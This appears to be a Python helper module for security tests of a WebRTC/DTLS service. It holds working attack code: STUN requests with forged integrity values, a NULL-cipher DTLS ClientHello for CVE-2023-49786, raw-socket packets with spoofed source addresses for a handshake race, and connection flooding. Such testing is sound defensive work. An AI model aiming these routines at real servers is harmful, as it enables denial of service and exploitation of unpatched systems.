"""Senders of unwelcome datagrams, with bounded rate and count. Blocking: run them in a thread."""

import contextlib
import os
import random
import socket
import struct
import threading
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

STUN_MAGIC_COOKIE = 0x2112A442
IP_PKTINFO = 8  # linux/in.h; Python has it from 3.14 on
BURST = 50
ANSWER_TIMEOUT_S = 0.5


def send_paced(datagrams: Iterable[bytes], target: tuple[str, int], *, per_second: int) -> int:
    """From one socket that validated nothing; returns how many were sent."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
        start = time.monotonic()
        for datagram in datagrams:
            attacker.sendto(datagram, target)
            sent += 1
            if sent % BURST == 0:
                _wait_until(start + sent / per_second)
    return sent


def send_from_many_addresses(
    datagrams: Iterable[bytes], target: tuple[str, int], *, per_second: int
) -> list[bytes]:
    """Sends each from another address of 127.0.0.0/8; returns every datagram that comes back."""
    answers = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
        attacker.bind(("0.0.0.0", 0))
        attacker.setblocking(False)
        start = time.monotonic()
        for sent, datagram in enumerate(datagrams):
            source = struct.pack("=I4s4s", 0, b"\x7f" + random.randbytes(2) + b"\x01", bytes(4))
            control = [(socket.IPPROTO_IP, IP_PKTINFO, source)]
            attacker.sendmsg([datagram], control, 0, target)
            if sent % BURST == 0:
                answers += _waiting(attacker)
                _wait_until(start + sent / per_second)
        time.sleep(ANSWER_TIMEOUT_S)
        return answers + _waiting(attacker)


def connect_with(openings: Iterable[bytes], target: tuple[str, int], *, per_second: int) -> int:
    """Opens a TCP connection for each and leaves it open; returns how many were opened."""
    start = time.monotonic()
    with contextlib.ExitStack() as connections:
        opened = 0
        for opening in openings:
            connection = connections.enter_context(socket.create_connection(target, timeout=5))
            with contextlib.suppress(ConnectionError):
                connection.sendall(opening)
            opened += 1
            _wait_until(start + opened / per_second)
    return opened


def answers_to(
    datagrams: Iterable[bytes], target: tuple[str, int], *, wait_s: float
) -> list[bytes]:
    """Sends them from one socket and returns every datagram that comes back to it."""
    answers = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
        attacker.settimeout(wait_s)
        for datagram in datagrams:
            attacker.sendto(datagram, target)
        try:
            while True:
                answers.append(attacker.recv(2048))
        except TimeoutError:
            return answers


def stun_binding_request(ufrag: str, *, use_candidate: bool = False) -> bytes:
    """A well-formed Binding request (RFC 8489) whose MESSAGE-INTEGRITY is made up."""
    username = f"{ufrag}:attacker".encode()
    attributes = _attribute(0x0006, username)
    attributes += _attribute(0x0024, struct.pack("!I", 0x7FFFFFFF))  # PRIORITY
    if use_candidate:
        attributes += _attribute(0x0025, b"")
    attributes += _attribute(0x0008, os.urandom(20))
    header = struct.pack("!HHI12s", 0x0001, len(attributes), STUN_MAGIC_COOKIE, os.urandom(12))
    return header + attributes


def client_hello() -> bytes:
    """A DTLS 1.2 ClientHello that offers TLS_NULL_WITH_NULL_NULL only (CVE-2023-49786)."""
    body = (
        b"\xfe\xfd" + random.randbytes(32) + b"\x00" + b"\x00" + b"\x00\x02\x00\x00" + b"\x01\x00"
    )
    length = len(body).to_bytes(3, "big")
    handshake = b"\x01" + length + b"\x00\x00" + b"\x00\x00\x00" + length + body
    record = b"\x16\xfe\xff" + b"\x00\x00" + b"\x00" * 6 + len(handshake).to_bytes(2, "big")
    return record + handshake


def local_udp_addresses(*, except_port: int) -> list[tuple[str, int]]:
    """IPv4 addresses of the sockets that are open in this network namespace."""
    addresses = []
    for line in Path("/proc/thread-self/net/udp").read_text().splitlines()[1:]:
        address, port = line.split()[1].split(":")
        if int(port, 16) != except_port:
            host = socket.inet_ntoa(struct.pack("=I", int(address, 16)))
            addresses.append((host, int(port, 16)))
    return addresses


@dataclass
class HelloRace:
    """A thread that sends ClientHellos to `target`, from an address of its own and, spoofed, from
    every other UDP socket on the target's address. Needs root."""

    target: tuple[str, int]
    per_second: int
    sent: int = 0
    """From each address."""
    spoofed: set[tuple[str, int]] = field(default_factory=set)
    _stop: threading.Event = field(default_factory=threading.Event, repr=False)

    def run(self) -> None:
        with (
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger,
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw,
        ):
            start = time.monotonic()
            while not self._stop.is_set():
                stranger.sendto(client_hello(), self.target)
                for source in local_udp_addresses(except_port=self.target[1]):
                    if source[0] == self.target[0]:
                        packet = _ip_packet(client_hello(), source, self.target)
                        raw.sendto(packet, (self.target[0], 0))
                        self.spoofed.add(source)
                self.sent += 1
                _wait_until(start + self.sent / self.per_second)


@contextlib.contextmanager
def hello_race(target: tuple[str, int], *, per_second: int) -> Iterator[HelloRace]:
    race = HelloRace(target, per_second)
    thread = threading.Thread(target=race.run)
    thread.start()
    try:
        yield race
    finally:
        race._stop.set()
        thread.join()


def _ip_packet(payload: bytes, source: tuple[str, int], target: tuple[str, int]) -> bytes:
    """IPv4 and UDP headers with a source address that is somebody else's, and `payload`."""
    udp = struct.pack("!HHHH", source[1], target[1], 8 + len(payload), 0) + payload
    addresses = socket.inet_aton(source[0]), socket.inet_aton(target[0])
    length, ttl = 20 + len(udp), 64
    return (
        struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, ttl, socket.IPPROTO_UDP, 0, *addresses)
        + udp
    )


def _waiting(attacker: socket.socket) -> list[bytes]:
    """What has arrived at a socket that does not block."""
    datagrams = []
    with contextlib.suppress(BlockingIOError):
        while True:
            datagrams.append(attacker.recv(2048))
    return datagrams


def _attribute(kind: int, value: bytes) -> bytes:
    padding = b"\x00" * (-len(value) % 4)
    return struct.pack("!HH", kind, len(value)) + value + padding


def _wait_until(deadline: float) -> None:
    if (remaining := deadline - time.monotonic()) > 0:
        time.sleep(remaining)
